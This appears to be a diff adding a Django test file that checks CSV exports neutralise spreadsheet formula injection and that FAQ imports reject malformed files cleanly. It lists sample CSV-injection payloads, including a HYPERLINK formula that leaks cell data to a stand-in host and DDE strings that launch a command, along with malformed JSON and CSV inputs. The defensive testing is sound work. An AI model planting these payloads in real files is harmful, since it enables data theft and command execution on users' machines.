@@ -1,0 +1,144 @@
+"""Hardening, round two (issue 14), on the owner's side: CSV exports no spreadsheet runs as
+formulas, imports that never 500 on bad bytes, admin login throttling, password validators in
+create_owner, the demo shop's marker, the default Claude budget. Through the real admin, commands
+and database."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.contrib.auth.models import User
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
+from django.urls import reverse
+
+from faq.models import FAQEntry, Shop
+from shopbot import csvcells
+from widget.models import Conversation, Message
+
+pytestmark = pytest.mark.django_db
+
+# The report's payloads, and the other cell starts OWASP lists.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''@twice",
+]
+PLAIN = ["Do you deliver?", "'quoted text", "", "a=b", "50% off - today"]
+
+
+def test_cells_are_neutralised_and_restored_exactly():
+    for value in FORMULAS:
+        escaped = csvcells.neutralise(value)
+        assert escaped.startswith("'") and escaped[1:] == value
+        assert csvcells.restore(escaped) == value
+    for value in PLAIN:
+        assert csvcells.neutralise(value) == value
+        assert csvcells.restore(value) == value
+    assert csvcells.neutralise(None) == "" and csvcells.neutralise(-0.5) == "'-0.5"
+
+
+def formula_cells(text: str) -> list[str]:
+    """Cells a spreadsheet would run: starting with = + - @ (tab, CR)."""
+    rows = list(csv.reader(io.StringIO(text)))
+    return [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_the_transcript_download_runs_no_formula(client):
+    shop = Shop.objects.create(name="Corner Shop")
+    conversation = Conversation.objects.create(
+        shop=shop, page_url='=HYPERLINK("http://evil.example")', user_agent="test"
+    )
+    for n, text in enumerate(FORMULAS):
+        Message.objects.create(conversation=conversation, role="user", ask_id=f"a{n}", text=text)
+    root = User.objects.create_superuser("root", "root@example.com", None)
+    client.force_login(root)
+    response = client.post(
+        reverse("admin:widget_conversation_changelist"),
+        {"action": "export_csv", "_selected_action": [str(conversation.pk)]},
+    )
+    assert response.status_code == 200
+    text = response.content.decode()
+    assert formula_cells(text) == []
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["text"] for r in rows] == ["'" + f for f in FORMULAS]
+    assert rows[0]["page"] == '\'=HYPERLINK("http://evil.example")'
+
+
+def test_faq_exports_run_no_formula_and_import_back_unchanged(client, tmp_path):
+    shop = Shop.objects.create(name="Corner Shop")
+    # (The importer strips surrounding spaces from every value, tabs included, by design.)
+    values = [f for f in FORMULAS if not f[0].isspace()] + PLAIN[:2]
+    for n, value in enumerate(values):
+        FAQEntry.objects.create(
+            shop=shop,
+            question=f"{value} question {n}?",
+            answer=f"{value} answer",
+            alternatives=f"{value} one\n- two",
+            category=value[:60].strip() if n % 2 else "",
+        )
+    # The command.
+    out = tmp_path / "faqs.csv"
+    call_command("export_faqs", shop.pk, "-o", str(out))
+    assert formula_cells(out.read_text()) == []
+    copy = Shop.objects.create(name="Copy")
+    call_command("import_faqs", copy.pk, str(out), stdout=io.StringIO())
+
+    def texts(s: Shop) -> list[tuple]:
+        return sorted(
+            s.entries.values_list("question", "answer", "alternatives", "category", "published")
+        )
+
+    assert texts(copy) == texts(shop)
+    # The admin action.
+    root = User.objects.create_superuser("root", "root@example.com", None)
+    client.force_login(root)
+    response = client.post(
+        reverse("admin:faq_faqentry_changelist"),
+        {
+            "action": "export_csv",
+            "_selected_action": [str(pk) for pk in shop.entries.values_list("pk", flat=True)],
+        },
+    )
+    assert response.status_code == 200
+    assert formula_cells(response.content.decode()) == []
+    again = Shop.objects.create(name="Again")
+    upload = SimpleUploadedFile("faqs.csv", response.content)
+    response = client.post("/admin/faq/faqentry/import/", {"shop": again.pk, "file": upload})
+    assert response.status_code == 302
+    assert texts(again) == texts(shop)
+
+
+BAD_FILES = [
+    ("faq.csv", b"question,answer\nOpen?,Yes\x00 we are\n", "line 2: character 10 is a NUL byte"),
+    ("faq.json", b'{"faqs": [{"question": "A\\u0000?", "answer": "x"}]}', "line 1: question"),
+    ("faq.json", b'{"faqs": [\n{"question": "A?", "answer": "\\ud800"}]}', "line 2: answer"),
+    ("faq.json", b'{"faqs": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested more than"),
+    ("faq.json", b'{"faqs": [{"question": 1' + b"0" * 5000 + b"}]}", "over 4,000 digits"),
+    ("faq.json", b'{"faqs": [{"question": 1e999999, "answer": "x"}]}', "question must be text"),
+    ("faq.json", b'{"faqs": [{"question": "A?",}]}', "character 29"),
+    ("faq.csv", b"\xff\xfe\x00q\x00", "not UTF-8"),
+    ("faq.csv", b"PK\x03\x04\x14\x00\x06\x00", "NUL byte"),  # an .xlsx renamed .csv
+]
+
+
+@pytest.mark.parametrize("name, data, message", BAD_FILES)
+def test_bad_bytes_get_a_sentence_and_a_position_never_a_500(client, name, data, message):
+    shop = Shop.objects.create(name="Corner Shop")
+    FAQEntry.objects.create(shop=shop, question="Kept?", answer="Yes.")
+    root = User.objects.create_superuser("root", "root@example.com", None)
+    client.force_login(root)
+    upload = SimpleUploadedFile(name, data)
+    response = client.post("/admin/faq/faqentry/import/", {"shop": shop.pk, "file": upload})
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert "Nothing was imported" in html
+    assert message in html.replace("&quot;", '"')
+    assert list(shop.entries.values_list("question", flat=True)) == ["Kept?"]
